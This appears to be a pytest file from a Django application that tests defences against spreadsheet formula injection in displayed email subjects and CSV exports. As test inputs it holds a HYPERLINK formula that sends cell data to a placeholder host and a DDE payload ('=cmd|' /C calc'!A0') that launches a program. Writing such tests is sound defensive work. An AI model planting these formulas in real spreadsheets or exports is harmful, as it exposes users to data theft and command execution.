"""A25: texts that a spreadsheet would run. Pages show them unchanged; a table of ours never begins a cell with them."""

import csv
import io

import pytest
from django.test import Client
from django.urls import get_resolver, reverse

from makegood.adapters.email.tests.make import mail
from makegood.base.ui.tables import csv_response, safe
from makegood.care.cases.models import Case


@pytest.mark.django_db
def test_a_formula_is_shown_as_it_was_written(take, lead_page: Client):
    subject = '=HYPERLINK("http://canary.test/?x="&A1,"refund")'
    take(mail(Subject=subject))
    page = lead_page.get(reverse("web:case", args=[Case.objects.get().pk])).content.decode()
    assert "=HYPERLINK(&quot;http://canary.test/?x=&quot;&amp;A1,&quot;refund&quot;)" in page


EVIL = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    "\u3000=1",
    "\uff1d1",
    "=cmd|' /C calc'!A0",
)


@pytest.mark.parametrize("text", EVIL)
def test_no_cell_of_a_table_begins_as_a_formula(text):
    assert safe(text) == f"'{text}"
    [line] = (
        csv_response("x.csv", [text], []).content.decode("utf-8-sig").splitlines(keepends=False)[:1]
    )
    assert line.startswith("\"'")


@pytest.mark.parametrize("text", ["", "M-17", "2026-11-22T09:00:00+00:00", "维修 = 免费", None])
def test_what_runs_nowhere_stays_as_it_is(text):
    assert safe(text) == (text or "")


@pytest.mark.django_db
def test_the_history_of_a_case_keeps_a_formula_asleep(take, lead_page: Client):
    take(mail(Subject="Plain"))
    case = Case.objects.get()
    lead_page.post(
        reverse("web:title", args=[case.pk]), {"subject": "=HYPERLINK(A1)", "version": 1}
    )
    answer = lead_page.get(reverse("web:history_export", args=[case.pk]))
    assert answer.headers["Content-Type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert "'=HYPERLINK(A1)" in [row[5] for row in table]
    assert not [cell for row in table for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_every_route_that_gives_tables_is_known_here():
    """Whoever adds an export meets this test, and makes its cells safe (`csv_response`, `write_sheet`)."""
    names = [str(key) for key in get_resolver().reverse_dict]
    spaces = [
        name
        for space, (_, inner) in get_resolver().namespace_dict.items()
        for name in map(str, inner.reverse_dict)
        if space
    ]
    tables = {
        n
        for n in names + spaces
        if "csv" in n.lower() or "xlsx" in n.lower() or "export" in n.lower()
    }
    assert {n for n in tables if not n.startswith("<")} == {
        "history_export",
        "export",
        "csv",
        "words_csv",
    }
